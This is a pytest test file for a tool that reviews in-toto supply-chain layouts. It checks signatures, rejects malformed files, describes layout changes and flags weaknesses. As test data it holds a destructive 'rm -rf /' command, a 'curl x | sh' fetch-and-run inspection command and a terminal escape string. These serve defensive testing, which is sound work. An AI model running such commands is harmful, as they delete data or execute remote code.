"""in-toto layouts: what is signed, what changed without loss, and what a reader must know."""

from __future__ import annotations

import base64
import copy
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import signers
from holders import holder
from hypothesis import given, settings
from hypothesis import strategies as st
from securesystemslib.dsse import Envelope
from securesystemslib.formats import encode_canonical

from vestry.errors import InputRejected
from vestry.metadata import layout
from vestry.metadata.changes import Change
from vestry.metadata.document import Document
from vestry.metadata.findings import CODES
from vestry.metadata.layout_changes import apply, changes
from vestry.metadata.review import Review, review
from vestry.metadata.review_text import render_lines
from vestry.metadata.rules_layout import APPLY

NOW = datetime(2027, 1, 1, tzinfo=UTC)
KEYS = signers.keys(4)
ANN, BEN, CAROL, DAVE = (k.keyid for k in KEYS)
CLOSED = [["DISALLOW", "*"]]


def step(name: str, *keyids: str, threshold: int = 1, **more: Any) -> dict[str, Any]:
    value = {"_type": "step", "name": name, "threshold": threshold, "pubkeys": list(keyids)}
    rules = {"expected_materials": CLOSED, "expected_products": [["CREATE", "foo.py"], *CLOSED]}
    return {**value, "expected_command": ["make", name], **rules, **more}


def untar(**more: Any) -> dict[str, Any]:
    rules = {"expected_materials": CLOSED, "expected_products": CLOSED}
    return {"_type": "inspection", "name": "untar", "run": ["tar", "xzf", "foo.tar.gz"], **rules, **more}


def signed(*steps: dict[str, Any], **more: Any) -> dict[str, Any]:
    keys = {k.keyid: {**k.to_dict(), "keyid": k.keyid} for k in KEYS[:3]}
    value = {"_type": "layout", "expires": "2027-06-01T00:00:00Z", "readme": "", "keys": keys, "inspect": [untar()]}
    return {**value, "steps": list(steps), **more}


BUILD = step("build", ANN, BEN, threshold=2)
PACKAGE = step("package", BEN, CAROL, threshold=2)
LAYOUT = signed(BUILD, PACKAGE)


def metablock(value: dict[str, Any], *signatures: dict[str, Any], **more: Any) -> bytes:
    return json.dumps({"signed": value, "signatures": list(signatures), **more}).encode()


def envelope(payload: bytes, *signatures: dict[str, Any], kind: str = layout.PAYLOAD_TYPE) -> bytes:
    text = base64.b64encode(payload).decode()
    return json.dumps({"payload": text, "payloadType": kind, "signatures": list(signatures)}).encode()


def read(value: dict[str, Any]) -> Document:
    return layout.read(metablock(value), where="a layout")


def of(new: dict[str, Any], old: dict[str, Any] | None = None) -> Review:
    return review("layout", read(new), old=read(old) if old else None, now=NOW)


def edited(value: dict[str, Any], *path: Any, to: Any) -> dict[str, Any]:
    made = copy.deepcopy(value)
    here = made
    for segment in path[:-1]:
        here = here[segment]
    here[path[-1]] = to
    return made


# --- what is signed


def test_a_metablock_is_signed_over_canonical_json() -> None:
    """Signatures that hold would not, and people would compare the digest of other bytes."""
    people = [holder(n) for n in ("Ann", "Ben")]
    unsigned = read(LAYOUT)
    assert unsigned.signed_bytes == encode_canonical(LAYOUT).encode()
    given = [h.sign(unsigned) for h in people]
    # in-toto's key ids are not those that PEM gives: the key is found by what it verifies.
    entries = [{"keyid": f"{n}" * 64, "sig": s.sig} for n, s in enumerate(given)]
    new = layout.read(metablock(LAYOUT, *entries), where="a layout")
    stranger = holder("Eve")
    keys = [people[0].key, people[1].key, stranger.key]
    found = review("layout", new, now=NOW, signers=layout.signers(new, keys, 2))
    (tally,) = found.tallies
    assert (tally.valid, tally.missing, tally.met) == (("0" * 64, "1" * 64), (stranger.key.keyid,), True)
    assert not review("layout", new, now=NOW, signers=layout.signers(new, keys, 3)).tallies[0].met
    once = review("layout", new, now=NOW, signers=layout.signers(new, [keys[0], keys[0]], 2))
    assert not once.tallies[0].met
    changed = layout.read(metablock({**LAYOUT, "readme": "x"}, *entries), where="a layout")
    assert not review("layout", changed, now=NOW, signers=layout.signers(changed, keys, 1)).tallies[0].met


@pytest.mark.parametrize("indent", [None, 3])
def test_an_envelope_is_signed_over_exactly_its_payload(indent: int | None) -> None:
    """A payload written again would be other bytes than those that were signed, and read."""
    payload = json.dumps(LAYOUT, indent=indent).encode()
    made = Envelope(payload, layout.PAYLOAD_TYPE, {})
    signer = signers.signer("ed25519")
    made.sign(signer)
    new = layout.read(json.dumps(made.to_dict()).encode(), where="an envelope")
    assert new.signed_bytes == made.pae() == layout.pae(layout.PAYLOAD_TYPE, payload)
    assert new.signed == LAYOUT
    key = signers.key("ed25519")
    assert review("layout", new, now=NOW, signers=layout.signers(new, [key], 1)).tallies[0].met
    wrong = layout.read(envelope(payload, {"keyid": "", "sig": "AAAA"}), where="an envelope")
    assert not review("layout", wrong, now=NOW, signers=layout.signers(wrong, [key], 1)).tallies[0].met


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (envelope(b"{}", kind="text/plain"), "payloadType is 'text/plain'"),
        (envelope(b'{"_type": "link"}'), "the payload is 'link', not a layout"),
        (envelope(b'{"_type": "layout", "_type": "layout"}'), "stands twice"),
        (envelope(b"[1.5]"), "is not an integer"),
        (b'{"payload": "*", "payloadType": "application/vnd.in-toto+json", "signatures": []}', "not base64"),
        (metablock({k: v for k, v in LAYOUT.items() if k != "expires"}), "expires is missing"),
        (metablock(edited(LAYOUT, "expires", to="soon")), "expires is 'soon'"),
        (metablock(edited(LAYOUT, "keys", to=[])), "keys is not an object"),
        (metablock(edited(LAYOUT, "steps", to=[BUILD, BUILD])), "steps is not a list of objects that each have"),
        (metablock(edited(LAYOUT, "steps", 0, "threshold", to="1")), "steps/build/threshold is not an integer"),
        (metablock(edited(LAYOUT, "steps", 0, "pubkeys", to=[ANN, ANN])), "steps/build/pubkeys is not a list"),
        (metablock(edited(LAYOUT, "steps", 0, "expected_products", to=["x"])), "is not a list of artifact rules"),
        (metablock(edited(LAYOUT, "inspect", 0, "run", to="rm -rf /")), "inspect/untar/run is not a list of strings"),
        (metablock(LAYOUT, {"keyid": 1, "sig": ""}), "signatures[0] has not a key id"),
        (json.dumps({"signed": LAYOUT}).encode(), "signatures is missing"),
    ],
)
def test_refused(raw: bytes, why: str) -> None:
    """What verifiers would read in different ways would pass, or end in a traceback."""
    with pytest.raises(InputRejected) as caught:
        layout.read(raw, where="the file")
    assert why in str(caught.value)


# --- what changed


def assert_lossless(old: dict[str, Any] | None, new: dict[str, Any]) -> tuple[Change, ...]:
    before = copy.deepcopy(old)
    found = changes(old, new)
    assert encode_canonical(apply(old, reversed(found))) == encode_canonical(new)
    assert old == before
    assert all(c.text.isascii() and c.text.isprintable() for c in found)
    return found


SAID: list[tuple[dict[str, Any], str, str]] = [
    (
        signed(step("build", ANN, BEN, CAROL, threshold=2), PACKAGE),
        "key-added",
        f"Step build: key {CAROL[:8]} is added to its functionaries",
    ),
    (
        signed(step("build", ANN, threshold=2), PACKAGE),
        "key-removed",
        f"Step build: key {BEN[:8]} is taken from its functionaries",
    ),
    (
        edited(LAYOUT, "steps", 1, "threshold", to=1),
        "threshold-changed",
        "Step package: threshold falls from 2 to 1",
    ),
    (
        edited(LAYOUT, "inspect", 0, "run", to=["sh", "-c", "curl x | sh"]),
        "inspection-changed",
        'Inspection untar: command, which verifiers run, changes from tar xzf foo.tar.gz to sh -c "curl x | sh"',
    ),
    (
        edited(LAYOUT, "steps", 0, "expected_command", to=[]),
        "step-changed",
        "Step build: expected command changes from make build to nothing",
    ),
    (
        edited(LAYOUT, "steps", 0, "expected_products", to=[["CREATE", "foo.py"], ["ALLOW", "*"]]),
        "step-changed",
        "Step build: product rules lose DISALLOW * and gain ALLOW *",
    ),
    (signed(PACKAGE, BUILD), "step-reordered", "moves from place"),
    (signed(BUILD), "step-removed", "Step package is dropped"),
    (
        signed(BUILD, PACKAGE, step("sign", ANN)),
        "step-added",
        "Step sign is added at place 3: 1 of 1 key, expected command: make sign",
    ),
    (edited(LAYOUT, "inspect", to=[]), "inspection-removed", "Inspection untar is dropped"),
    (
        edited(LAYOUT, "expires", to="2028-01-01T00:00:00Z"),
        "expiry-changed",
        "Expires 2028-01-01T00:00:00Z instead of 2027-06-01T00:00:00Z",
    ),
    (edited(LAYOUT, "readme", to="hello"), "field-changed", 'Field readme changes from "" to hello'),
    (edited(LAYOUT, "rootcas", to={"a": {}}), "field-added", 'Field rootcas is {"a": {}}'),
    (
        edited(LAYOUT, "steps", 0, "pubkeys", to=[BEN, ANN]),
        "field-changed",
        "Step build: its functionaries are listed in another order",
    ),
]


@pytest.mark.parametrize(("new", "kind", "said"), SAID, ids=[f"{k}-{n}" for n, (_, k, _) in enumerate(SAID)])
def test_each_change_is_said_in_the_fields_language(new: dict[str, Any], kind: str, said: str) -> None:
    """A signer would have to read two files of JSON side by side."""
    (change,) = assert_lossless(LAYOUT, new)
    assert change.kind == kind
    assert said in change.text


def test_keys_are_compared_by_their_bytes() -> None:
    """All functionaries could be swapped under their old ids, or the same ones look like strangers."""
    keys = LAYOUT["keys"]
    swapped = {**LAYOUT, "keys": {**keys, ANN: {**KEYS[3].to_dict(), "keyid": ANN}}}
    first = assert_lossless(LAYOUT, swapped)[0]
    assert first.kind == "key-changed"
    assert f"Key {ANN[:8]} keeps its key id, but another key stands behind it: it serves step build" in first.text
    other = "f" * 64
    renamed = signed(step("build", other, BEN, threshold=2), PACKAGE)
    renamed["keys"] = {other if k == ANN else k: v for k, v in keys.items()}
    (change,) = assert_lossless(LAYOUT, renamed)
    assert (change.kind, change.roles) == ("key-renamed", ("build",))


def test_a_gpg_key_is_shown_as_it_stands() -> None:
    """Layouts of whole distributions are signed with GPG; they would not open."""
    gpg = {"type": "rsa", "method": "pgp+rsa-pkcsv1.5", "hashes": ["pgp+SHA2"], "keyid": "8465", "subkeys": {}}
    gpg["keyval"] = {"private": "", "public": {"e": "010001", "n": "da59"}}
    new = {**signed(step("build", "8465")), "keys": {"8465": gpg}}
    added = assert_lossless(LAYOUT, new)
    assert any("Key 8465, pgp+rsa-pkcsv1.5, is listed: it serves step build" in c.text for c in added)
    raw = metablock(new, {"keyid": "8465", "other_headers": "0400", "signature": "00ff"})
    found = review("layout", layout.read(raw, where="a layout"), now=NOW)
    assert len([f for f in found.findings if f.code == "LAYOUT-KEY-GPG"]) == 2
    assert "E-" not in "\n".join(render_lines(found))


TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=4)
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-2, 3) | TEXT,
    lambda v: st.lists(v, max_size=2) | st.dictionaries(TEXT, v, max_size=2),
    max_leaves=5,
)


def maybe(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.integers(0, 11).flatmap(lambda n: VALUES if n == 0 else strategy)


IDS = [ANN, BEN, CAROL, DAVE, "8465"]
LINES = st.lists(st.lists(st.sampled_from(["ALLOW", "DISALLOW", "*", "a b"]), max_size=3), max_size=3)
THING: dict[str, st.SearchStrategy[Any]] = {
    "threshold": maybe(st.integers(0, 3)),
    "pubkeys": maybe(st.lists(st.sampled_from(IDS), unique=True, max_size=4)),
    "expected_command": maybe(st.lists(TEXT, max_size=2)),
    "expected_materials": maybe(LINES),
    "run": maybe(st.lists(TEXT, max_size=2)),
    "x-odd": VALUES,
}
THINGS = st.lists(
    st.fixed_dictionaries({"name": st.sampled_from(["a", "b", "c", "d~/", "steps"])}, optional=THING),
    max_size=5,
    unique_by=lambda t: t["name"],
)
KEY = st.builds(
    lambda k, more: {**k.to_dict(), **more}, st.sampled_from(KEYS), st.dictionaries(TEXT, VALUES, max_size=1)
)
LAYOUTS = st.fixed_dictionaries(
    {},
    optional={
        "_type": st.just("layout"),
        "expires": maybe(st.sampled_from(["2027-01-01T00:00:00Z", "2028-01-01T00:00:00Z"])),
        "readme": VALUES,
        "keys": maybe(st.dictionaries(st.sampled_from(IDS), maybe(KEY), max_size=4)),
        "steps": maybe(THINGS),
        "inspect": maybe(THINGS),
        "x-odd": VALUES,
    },
)


@settings(max_examples=150)
@given(st.none() | LAYOUTS, LAYOUTS)
def test_nothing_is_lost(old: dict[str, Any] | None, new: dict[str, Any]) -> None:
    """A change could hide from those who sign, whatever the shape of the layout."""
    assert_lossless(old, new)


@settings(max_examples=60)
@given(THINGS, THINGS, st.booleans())
def test_nothing_is_lost_between_documents(before: list[Any], after: list[Any], in_envelope: bool) -> None:
    """What is shown of a file, Metablock or envelope, would be less than what its bytes say."""
    documents = []
    for things in (before, after):
        value = {**LAYOUT, "steps": [{"threshold": 1, **t} for t in things]}
        raw = envelope(json.dumps(value, indent=2).encode()) if in_envelope else metablock(value)
        try:
            documents.append(layout.read(raw, where="a layout"))
        except InputRejected:
            return
    old, new = documents
    found = review("layout", new, old=old, now=NOW)
    made = apply(old.signed, found.changes)
    assert encode_canonical(made) == encode_canonical(new.signed)
    assert json.loads(json.dumps(found.to_dict()))["new_version"] is None


# --- what a reader must know

CASES: list[tuple[str, str, dict[str, Any]]] = [
    ("EXPIRY-PAST", "stop", edited(LAYOUT, "expires", to="2026-01-01T00:00:00Z")),
    ("EXPIRY-FAR", "warn", edited(LAYOUT, "expires", to="2036-01-01T00:00:00Z")),
    ("EXPIRY-FORM", "stop", edited(LAYOUT, "expires", to="2027-06-01T00:00:00.5Z")),
    ("KEY-TWICE", "stop", edited(LAYOUT, "keys", "e" * 64, to=KEYS[0].to_dict())),
    ("TEXT-HOSTILE", "stop", edited(LAYOUT, "readme", to="\x1b[2J")),
    ("LAYOUT-NO-STEPS", "warn", signed()),
    ("LAYOUT-STEP-KEYS", "warn", signed(step("a"))),
    ("LAYOUT-STEP-KEYS", "warn", signed(step("a", ANN, threshold=2))),
    ("LAYOUT-STEP-KEYS", "warn", signed(step("a", ANN, threshold=0))),
    ("LAYOUT-KEY-MISSING", "warn", signed(step("a", ANN, "0" * 64))),
    ("LAYOUT-KEY-UNUSED", "note", signed(step("a", ANN, BEN))),
    ("LAYOUT-KEY-GPG", "note", edited(LAYOUT, "keys", "aa", to={"method": "pgp+eddsa-ed25519", "type": "eddsa"})),
    ("LAYOUT-THRESHOLD-ONE", "note", signed(step("a", ANN), step("b", BEN))),
    ("LAYOUT-RULE-UNKNOWN", "warn", edited(LAYOUT, "inspect", 0, "expected_products", to=[["ALOW", "*"], *CLOSED])),
    ("LAYOUT-RULE-UNKNOWN", "warn", edited(LAYOUT, "steps", 0, "expected_products", to=[["MATCH", "*"], *CLOSED])),
    ("LAYOUT-RULES-OPEN", "warn", edited(LAYOUT, "steps", 0, "expected_products", to=[["ALLOW", "*"]])),
    ("LAYOUT-RULES-OPEN", "warn", edited(LAYOUT, "steps", 0, "expected_materials", to=[])),
    ("LAYOUT-PATTERN", "note", edited(LAYOUT, "steps", 0, "expected_products", to=[["ALLOW", "[!a]"], *CLOSED])),
    ("LAYOUT-FIELD", "warn", edited(LAYOUT, "rootcas", to={})),
    ("LAYOUT-RUNS", "note", LAYOUT),
]


@pytest.mark.parametrize(("code", "severity", "value"), CASES, ids=[f"{c}-{n}" for n, (c, _, _) in enumerate(CASES)])
def test_findings(code: str, severity: str, value: dict[str, Any]) -> None:
    """What weakens a layout would go by unseen."""
    assert [f.severity for f in of(value).findings if f.code == code] == [severity]


def test_a_good_layout_is_left_in_peace() -> None:
    """Readers who see findings everywhere stop reading them; rules of TUF documents would speak of missing fields."""
    assert [f.code for f in of(LAYOUT, LAYOUT).findings] == ["LAYOUT-RUNS"]
    match = [["match", "a/*", "IN", "b", "WITH", "products", "IN", "c", "FROM", "build"], *CLOSED]
    assert [f.code for f in of(edited(LAYOUT, "inspect", 0, "expected_materials", to=match)).findings] == [
        "LAYOUT-RUNS"
    ]


def test_every_rule_of_layouts_is_tried() -> None:
    """A rule that never fires would look like a check."""
    assert {c for c in CODES if c.startswith("LAYOUT-")} <= {c for c, _, _ in CASES}
    assert set(CODES) >= APPLY


def test_published_layouts(shared_data: Path) -> None:
    """Layouts of the specification's own examples would not open, or their signatures not hold."""
    folder = shared_data / "vectors/in-toto-spec/examples"
    for path in (folder / "seattle/root.layout", folder / "polypasswordhasher/root.layout"):
        new = layout.read(path.read_bytes(), where=path.name)
        found = review("layout", new, now=NOW)
        assert len(new.signatures) == 1
        assert {"EXPIRY-PAST", "LAYOUT-RULES-OPEN"} <= {f.code for f in found.findings}
        assert apply(None, found.changes) == new.signed
